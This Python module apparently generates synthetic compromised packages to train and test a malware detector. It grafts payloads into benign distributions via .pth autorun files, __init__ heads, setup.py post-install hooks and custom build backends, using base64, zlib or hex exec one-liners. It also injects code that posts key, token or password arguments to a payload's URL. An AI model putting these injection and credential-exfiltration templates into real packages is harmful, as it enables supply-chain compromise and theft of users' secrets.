"""Grafts: stand-ins for compromised releases, made in memory from text and never run.

A payload of a malicious family is placed into a benign distribution, where attackers of real
incidents placed theirs.
"""

from __future__ import annotations

import ast
import base64
import enum
import random
import re
import textwrap
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import replace

from model.payloads import parse_quietly, text_of
from safe_pip.distribution import Distribution, DistributionKind, SourceFile

_UNIMPORTANT = ("test", "tests", "testing", "doc", "docs", "example", "examples", "benchmarks")
_MODULE_NAMES = ("_telemetry", "_compat", "_runtime", "_loader", "_sysmon", "_bootstrap")
_ADDRESS = re.compile(r"https?://[\w.-]+\.[a-z]{2,}(?:/[\w./%-]*)?")
# What a parameter is called that holds a key or a login; ``max_tokens`` holds neither.
_KEY = re.compile(
    r"(?:\b|_)(?:priv(?:ate)?_?key|secret(?:_?key)?|mnemonic|seed_?phrase|keypair|passw(?:or)?d"
    r"|api_?key)\b|\b(?:(?:access|api|auth|bearer|bot|user)_?)?token\b"
)
# Most hosts have no such function; a large one is not searched as a whole.
_MAX_SEARCHED = 150
_FUNCTION_NAMES = ("_run_background_task", "_init_runtime", "_setup_env", "_warm_cache")


class Place(enum.Enum):
    """Where the payload goes. The values name the graft kinds in the model card."""

    PTH = "pth"
    INIT_HEAD = "init-head"
    CALLED_FUNCTION = "called-function"
    SUBMODULE = "submodule"
    SETUP = "setup.py"
    BUILD_BACKEND = "build-backend"
    UNCALLED = "uncalled-function"
    HANDED_ON = "handed-on"

    @property
    def needs_sdist(self) -> bool:
        return self in (Place.SETUP, Place.BUILD_BACKEND)

    @property
    def tries(self) -> int:
        """How often more it is tried than others, since most hosts have no such place."""
        return 6 if self is Place.HANDED_ON else 1

    @property
    def is_tested(self) -> bool:
        """Whether test has grafts of this kind. What waits for a user's call is learnt from, since
        trojanised clients are made so; the kinds that the bars name are the others."""
        return self not in (Place.UNCALLED, Place.HANDED_ON)


def file_of(path: str, content: bytes | str) -> SourceFile:
    """A file that exists in memory only."""
    data = content.encode("utf-8", errors="replace") if isinstance(content, str) else content

    def load() -> bytes:
        return data

    return SourceFile(path=path, size=len(data), load=load)


def with_files(distribution: Distribution, changed: Mapping[str, SourceFile]) -> Distribution:
    """The distribution with files added or replaced, and a RECORD that says so."""
    kept = [file for file in distribution.files if file.path not in changed]
    new = [path for path in changed if path not in distribution.by_path]
    files = [*kept, *changed.values()]
    record = next((f for f in kept if f.path.endswith(".dist-info/RECORD")), None)
    if record is not None and new:
        rows = text_of(record).rstrip("\n") + "".join(f"\n{path},," for path in new) + "\n"
        files[files.index(record)] = file_of(record.path, rows)
    return replace(distribution, files=tuple(sorted(files, key=lambda file: file.path)))


def graft(host: Distribution, payload: str, place: Place, seed: int) -> Distribution | None:
    """The host with the payload in it, or None if the host has no such place."""
    choice = random.Random(seed)
    make: Mapping[Place, Callable[[Distribution, str, random.Random], Distribution | None]] = {
        Place.PTH: _pth,
        Place.INIT_HEAD: _init_head,
        Place.CALLED_FUNCTION: _called_function,
        Place.SUBMODULE: _submodule,
        Place.SETUP: _setup,
        Place.BUILD_BACKEND: _build_backend,
        Place.UNCALLED: _uncalled_function,
        Place.HANDED_ON: _handed_on,
    }
    if place.needs_sdist and host.kind is DistributionKind.WHEEL:
        return None
    return make[place](host, payload, choice)


def main_module(distribution: Distribution) -> SourceFile | None:
    """The file that an import of the distribution runs first: the largest package's
    ``__init__``, else the largest top-level module."""
    python = [f for f in distribution.python_files() if not _is_unimportant(f.path)]
    packages: dict[str, int] = {}
    for file in python:
        folder, _, name = file.path.rpartition("/")
        parent = folder.rpartition("/")[0]
        if name == "__init__.py" and f"{parent}/__init__.py".lstrip("/") not in (
            f.path for f in python
        ):
            packages[folder] = sum(f.path.startswith(folder + "/") for f in python)
    if packages:
        largest = max(packages, key=lambda folder: (packages[folder], folder))
        return distribution.by_path[f"{largest}/__init__.py"]
    modules = [f for f in python if f.path.count("/") <= 1 and f.path != "setup.py"]
    return max(modules, key=lambda file: (file.size, file.path), default=None)


def _is_unimportant(path: str) -> bool:
    folders = path.split("/")[:-1]
    return any(folder.lower() in _UNIMPORTANT for folder in folders)


def _after_prologue(source: str, text: str) -> str:
    """The source with text after its docstring and ``__future__`` imports."""
    tree = parse_quietly(source)
    line = 0
    for statement in tree.body if tree else ():
        is_docstring = isinstance(statement, ast.Expr) and isinstance(statement.value, ast.Constant)
        is_future = isinstance(statement, ast.ImportFrom) and statement.module == "__future__"
        if not is_docstring and not is_future:
            break
        line = statement.end_lineno or line
    lines = source.split("\n")
    return "\n".join([*lines[:line], text, *lines[line:]])


def one_line(payload: str, choice: random.Random) -> str:
    """A line that runs the payload, in one of the forms seen in incidents."""
    data = payload.encode("utf-8", errors="replace")
    plain = base64.b64encode(data).decode()
    packed = base64.b64encode(zlib.compress(data)).decode()
    forms = (
        f"import base64;exec(base64.b64decode('{plain}'))",
        f"import base64,zlib;exec(zlib.decompress(base64.b64decode('{packed}')))",
        "import os,subprocess,sys;subprocess.Popen([sys.executable,'-c',"
        f"\"import base64;exec(base64.b64decode('{plain}'))\"])",
        f"import os;exec({payload!r})",
        f"import sys;exec(bytes.fromhex('{data.hex()}').decode())",
    )
    return choice.choice(forms)


def _pth(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
    name = f"{(host.project or 'package').replace('-', '_')}_init"
    if choice.random() < 0.2:
        module = choice.choice(_MODULE_NAMES)
        return with_files(
            host,
            {
                f"{name}.pth": file_of(f"{name}.pth", f"import {module}\n"),
                f"{module}.py": file_of(f"{module}.py", payload + "\n"),
            },
        )
    line = one_line(payload, choice)
    return with_files(host, {f"{name}.pth": file_of(f"{name}.pth", line + "\n")})


def _init_head(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
    target = main_module(host)
    if target is None:
        return None
    text = payload if choice.random() < 0.7 else one_line(payload, choice)
    changed = _after_prologue(text_of(target), text)
    return with_files(host, {target.path: file_of(target.path, changed)})


def _called_function(
    host: Distribution, payload: str, choice: random.Random
) -> Distribution | None:
    return _in_function(host, payload, choice, is_called=True)


def _uncalled_function(
    host: Distribution, payload: str, choice: random.Random
) -> Distribution | None:
    return _in_function(host, payload, choice, is_called=False)


def _in_function(
    host: Distribution, payload: str, choice: random.Random, *, is_called: bool
) -> Distribution | None:
    main = main_module(host)
    if main is None:
        return None
    folder = main.path.rpartition("/")[0]
    siblings = [f for f in host.python_files() if f.path.rpartition("/")[0] == folder]
    target = choice.choice(sorted(siblings, key=lambda file: file.path)[:20])
    name = choice.choice(_FUNCTION_NAMES)
    changed = f"{text_of(target).rstrip()}\n\n\ndef {name}():\n{textwrap.indent(payload, '    ')}\n"
    if is_called:
        call = f"{name}()"
        if choice.random() < 0.4:
            call = f"import threading\nthreading.Thread(target={name}, daemon=True).start()"
        changed += f"\n\n{call}\n"
    return with_files(host, {target.path: file_of(target.path, changed)})


def _handed_on(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
    """What a function of the host is handed goes to an address of the payload as well, as in
    trojanised clients."""
    addresses = sorted(set(_ADDRESS.findall(payload)))
    files = [f for f in host.python_files() if not _is_unimportant(f.path)]
    choice.shuffle(files)
    for file in files[:_MAX_SEARCHED] if addresses else ():
        source = text_of(file)
        places = list(_handed_keys(source)) if _KEY.search(source) else []
        if places:
            line, indent, name = choice.choice(places)
            theft = textwrap.indent(_theft(name, choice.choice(addresses), choice), " " * indent)
            lines = source.split("\n")
            changed = "\n".join([*lines[:line], theft, *lines[line:]])
            return with_files(host, {file.path: file_of(file.path, changed)})
    return None


def _handed_keys(source: str) -> Iterator[tuple[int, int, str]]:
    """Where functions begin that are handed keys: lines before, indentation, parameter."""
    tree = parse_quietly(source)
    for node in ast.walk(tree) if tree else ():
        if not isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            continue
        first = node.body[1] if ast.get_docstring(node) and len(node.body) > 1 else node.body[0]
        names = [argument.arg for argument in (*node.args.args, *node.args.kwonlyargs)]
        keys = [name for name in names if _KEY.search(name)]
        if keys and first.lineno > node.lineno and not isinstance(first, ast.FunctionDef):
            yield first.lineno - 1, first.col_offset, keys[0]


def _theft(name: str, address: str, choice: random.Random) -> str:
    """Statements that send a variable away, in one of the forms seen in incidents."""
    hidden = base64.b64encode(address.encode()).decode()
    place = f"base64.b64decode('{hidden}').decode()" if choice.random() < 0.3 else repr(address)
    sent = choice.choice((f"{{'d': {name}}}", f"{{'k': str({name})}}", f"dict(value={name})"))
    forms = (
        f"requests.post({place}, json={sent}, timeout=5)",
        f"requests.get({place}, params={sent})",
        f"requests.get({place} + '?q=' + str({name}))",
        f"urllib.request.urlopen({place}, urllib.parse.urlencode({sent}).encode())",
        f"urllib.request.urlopen(urllib.request.Request({place}, json.dumps({sent}).encode()))",
        f"threading.Thread(target=requests.post, args=({place}, {sent}), daemon=True).start()",
    )
    act = (
        "import base64, json, threading, urllib.parse, urllib.request, requests\n"
        f"{choice.choice(forms)}"
    )
    if choice.random() < 0.2:
        return act
    return f"try:\n{textwrap.indent(act, '    ')}\nexcept Exception:\n    pass"


def _submodule(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
    main = main_module(host)
    if main is None or not main.path.endswith("__init__.py"):
        return None
    folder = main.path.rpartition("/")[0]
    name = choice.choice(_MODULE_NAMES)
    path = f"{folder}/{name}.py"
    if path in host.by_path:
        return None
    changed = _after_prologue(text_of(main), f"from . import {name}")
    return with_files(
        host, {main.path: file_of(main.path, changed), path: file_of(path, payload + "\n")}
    )


def _setup(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
    existing = host.by_path.get("setup.py")
    if existing is None:
        changed = f"from setuptools import setup\n\n{payload}\n\nsetup()\n"
    elif choice.random() < 0.5:
        changed = _after_prologue(text_of(existing), payload)
    else:
        body = textwrap.indent(payload, "        ")
        changed = _after_prologue(
            text_of(existing),
            "from setuptools.command.install import install as _install\n\n\n"
            "class PostInstall(_install):\n"
            f"    def run(self):\n        _install.run(self)\n{body}\n",
        )
        changed = changed.replace("setup(\n", "setup(\n    cmdclass={'install': PostInstall},\n", 1)
        if "PostInstall}" not in changed:
            changed = changed.replace(" setup(", " setup(cmdclass={'install': PostInstall}, ", 1)
            changed = changed.replace("\nsetup(", "\nsetup(cmdclass={'install': PostInstall}, ", 1)
    return with_files(host, {"setup.py": file_of("setup.py", changed)})


def _build_backend(host: Distribution, payload: str, choice: random.Random) -> Distribution | None:
    folder = choice.choice(("_build", "build_tools", "_backend"))
    body = textwrap.indent(payload, "    ")
    backend = (
        "from setuptools import build_meta as _meta\nfrom setuptools.build_meta import *\n\n\n"
        f"def build_wheel(*arguments, **settings):\n{body}\n"
        "    return _meta.build_wheel(*arguments, **settings)\n"
    )
    if choice.random() < 0.5:
        backend = f"{payload}\n\nfrom setuptools.build_meta import *\n"
    pyproject = (
        '[build-system]\nrequires = ["setuptools"]\n'
        f'build-backend = "backend"\nbackend-path = ["{folder}"]\n'
    )
    return with_files(
        host,
        {
            "pyproject.toml": file_of("pyproject.toml", pyproject),
            f"{folder}/backend.py": file_of(f"{folder}/backend.py", backend),
        },
    )


def size_band(n_files: int) -> str:
    """The model card's band of a host's number of files."""
    edges: Iterable[tuple[int, str]] = (
        (10, "3-10"),
        (40, "11-40"),
        (150, "41-150"),
        (500, "151-500"),
    )
    return next((name for edge, name in edges if n_files <= edge), "over 500")
